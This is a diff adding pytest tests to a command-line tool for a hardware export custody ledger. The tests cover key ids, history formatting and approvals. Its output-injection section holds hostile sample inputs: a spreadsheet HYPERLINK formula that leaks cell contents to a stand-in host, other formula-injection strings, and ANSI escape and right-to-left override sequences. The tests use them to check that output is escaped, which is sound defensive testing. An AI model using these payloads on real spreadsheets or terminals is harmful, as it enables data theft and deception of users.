@@ -2,7 +2,11 @@
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 import os
+import re
 import signal
 import subprocess
 import sys
@@ -15,6 +19,7 @@ from cryptography.hazmat.primitives.asymmetric import rsa
 from typer.testing import CliRunner
 
 from commands.main import app
+from tests.conftest import Ledger, make_keys
 
 
 def test_keys_show_of_an_rsa_public_key_says_what_is_wrong(tmp_path: Path, runner: CliRunner) -> None:
@@ -88,3 +93,120 @@ def test_a_closed_pipe_is_a_quiet_exit_with_the_commands_own_status(demo_db: Pat
     text = done.stderr.decode()
     assert done.returncode == status, text
     assert "Broken pipe" not in text and "Traceback" not in text and "Exception ignored" not in text, text
+
+
+# --- what the CLI says ---------------------------------------------------------------------------------
+
+
+def test_trust_on_first_use_names_the_authority_by_its_key_id(sqlite_ledger: Ledger) -> None:
+    """One identifier for a key everywhere: the warning shows what `keys show` shows."""
+    kid = sqlite_ledger.cli("keys", "show", sqlite_ledger.pub("authority"), ok=True).stdout.split()[0]
+    assert len(kid) == 64
+    result = sqlite_ledger.cli("verify")
+    warning = [line for line in result.stderr.splitlines() if "trusting the genesis authorities" in line]
+    assert len(warning) == 1 and kid in warning[0], result.stderr
+
+
+def test_record_takes_step_names_as_history_prints_them(sqlite_ledger: Ledger) -> None:
+    book = sqlite_ledger
+    book.record("fabricated", "tsmc", ["UN1"], "--model", "H200-SXM5-141GB", "--site", "F", "--lot", "L", ok=True)
+    book.record("shipped_to_us", "kerry", ["UN1"], "--port-of-entry", "DFW", "--waybill", "W", ok=True)
+    kinds = [s["kind"] for s in json.loads(book.cli("history", "UN1", "--json", ok=True).stdout)["steps"]]
+    assert kinds == ["fabricated", "shipped_to_us"]
+    assert book.record("shipped__to_us", "kerry", ["UN1"], "--port-of-entry", "D", "--waybill", "W").exit_code == 2
+
+
+def test_one_unit_is_one_unit(sqlite_ledger: Ledger, tmp_path: Path, runner: CliRunner) -> None:
+    book = sqlite_ledger
+    result = book.record("fabricated", "tsmc", ["ONE1"], "--model", "H200-SXM5-141GB", "--site", "F", "--lot", "L",
+                         ok=True)
+    assert "for 1 unit at" in result.stdout
+    book.full_flow(["ONE2"])
+    for args in (["replay"], ["report", "duty"], ["report", "units"]):
+        out = book.cli(*args, ok=True).stdout
+        assert not re.search(r"\b1 (units|entries)\b", out), (args, out)
+    demo = runner.invoke(app, ["demo", "--units", "1", "--dir", str(tmp_path / "demo")])
+    assert demo.exit_code == 0, demo.stderr
+    assert "custody demo: 1 unit through all six steps in 1 shipment: " in demo.stdout
+    assert not re.search(r"\b1 (units|entries|shipments)\b", demo.stdout), demo.stdout
+
+
+def test_history_columns_stay_aligned(sqlite_ledger: Ledger, tmp_path: Path) -> None:
+    """A long participant id, a time with microseconds and a long kind do not push the later columns."""
+    book = sqlite_ledger
+    (tmp_path / "keys").mkdir(exist_ok=True)
+    make_keys(tmp_path / "keys", ["longcarrier"])
+    long_id = "a-carrier-with-a-rather-long-participant-id"
+    book.cli("participant", "add", long_id, "--role", "carrier", "--pubkey", str(tmp_path / "keys" / "longcarrier.pub"),
+             "--country", "US", "--key", book.key("authority"), ok=True)
+    book.record("fabricated", "tsmc", ["AL1"], "--model", "H200-SXM5-141GB", "--site", "F", "--lot", "L",
+                "--at", "2026-01-01T00:00:00Z", ok=True)
+    book.cli("record", "shipped-to-us", "--key", str(tmp_path / "keys" / "longcarrier"), "--serial", "AL1",
+             "--port-of-entry", "DFW", "--waybill", "W", "--at", "2026-01-02T03:04:05.123456Z", ok=True)
+    book.record("inspected", "uslab", ["AL1"], "--result", "pass", "--site", "Lab", "--country", "US",
+                "--report", "R", ok=True)
+    lines = book.cli("history", "AL1", ok=True).stdout.splitlines()[1:]
+    assert len(lines) == 3
+    columns = [re.match(r"  (#\d+ +)(\S+ +)(\S+ +)(by \S+ +)", line) for line in lines]
+    assert all(columns), "\n".join(lines)
+    for group in range(1, 5):  # every column starts where it starts on the other lines
+        assert len({m.end(group) for m in columns if m}) == 1, "\n".join(lines)
+
+
+def test_customer_approval_refuses_an_empty_licence_and_warns_of_likely_mistakes(sqlite_ledger: Ledger) -> None:
+    book = sqlite_ledger
+    authority = ("--key", book.key("authority"))
+    size = json.loads(book.cli("report", "compliance", "--json", ok=True).stdout)["log_size"]
+    for blank in ("", "   "):
+        refused = book.cli("customer", "approve", "alibaba", "--cap", "3", "--license", blank, *authority)
+        assert refused.exit_code == 2 and "licence" in refused.stderr and refused.stdout == ""
+    assert json.loads(book.cli("report", "compliance", "--json", ok=True).stdout)["log_size"] == size
+    unknown = book.cli("customer", "approve", "nobody", "--cap", "3", "--license", "L", *authority, ok=True)
+    assert "warning: nobody is not a registered participant" in unknown.stderr
+    carrier = book.cli("customer", "approve", "kerry", "--cap", "3", "--license", "L", *authority, ok=True)
+    assert "warning: kerry does not hold the customer role" in carrier.stderr
+    past = book.cli("customer", "approve", "alibaba", "--cap", "3", "--license", "L", "--until", "2020-01-01",
+                    *authority, ok=True)
+    assert "warning: the approval of alibaba ends at 2020-01-02T00:00:00Z, already past" in past.stderr
+    clean = book.cli("customer", "approve", "bytedance", "--cap", "3", "--license", "L", *authority, ok=True)
+    assert clean.stderr == ""
+
+
+# --- output injection (issue 15 item 8) ------------------------------------------------------------------
+
+FORGED = "Fab 18\n  #999    2026-01-01T00:00:00Z     received       by alibaba      site=forged"
+ANSI = "\x1b[2J\x1b[31mL1\x1b[0m\u202egnp.exe"
+
+
+def test_free_text_cannot_forge_lines_or_drive_the_terminal(sqlite_ledger: Ledger) -> None:
+    book = sqlite_ledger
+    book.record("fabricated", "tsmc", ["INJ1"], "--model", "H200-SXM5-141GB", "--site", FORGED, "--lot", ANSI,
+                ok=True)
+    text = book.cli("history", "INJ1", ok=True).stdout
+    lines = text.splitlines()
+    assert len(lines) == 2 and "#999" not in "".join(lines[:1]) and lines[1].count("#") == 2, text
+    assert not any(ch in text for ch in "\x1b\u202e\r"), repr(text)
+    assert "\\n  #999" in lines[1] and "\\x1b[2J" in lines[1] and "\\u202e" in lines[1]
+    data = json.loads(book.cli("history", "INJ1", "--json", ok=True).stdout)["steps"][0]["data"]
+    assert data["site"] == FORGED and data["lot"] == ANSI  # JSON stays exact
+    report = book.cli("report", "compliance", ok=True).stdout  # PROHIBITED_MODEL would show the model; none here
+    assert "\x1b" not in report
+
+
+def test_csv_cells_never_start_a_formula(sqlite_ledger: Ledger) -> None:
+    book = sqlite_ledger
+    book.full_flow(["CSV1"])
+    book.record("fabricated", "tsmc", ["CSV2"], "--model", "H200-SXM5-141GB", "--site", "F", "--lot", "L", ok=True)
+    book.record("shipped-to-us", "kerry", ["CSV2"], "--port-of-entry", "DFW", "--waybill", "W", ok=True)
+    book.record("duty-paid", "cbp", ["CSV2"], "--entry", '=HYPERLINK("http://x.example/?"&A1,"ok")',
+                "--entered-value", "20000.00", "--duty", "5000.00", ok=True)
+    book.record("duty-paid", "cbp", ["CSV2"], "--entry", "@SUM(1+1)\r\n-2+3", "--entered-value", "20000.00",
+                "--duty", "5000.00", ok=True)
+    rows = list(csv.reader(io.StringIO(book.cli("report", "duty", "--csv", ok=True).stdout)))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    entries = {row[1] for row in rows[1:]}
+    assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")" in entries and "'@SUM(1+1)\\r\\n-2+3" in entries
+    document = json.loads(book.cli("report", "duty", "--json", ok=True).stdout)
+    assert {e["entry"] for e in document["entries"]} >= {'=HYPERLINK("http://x.example/?"&A1,"ok")',
+                                                         "@SUM(1+1)\r\n-2+3"}
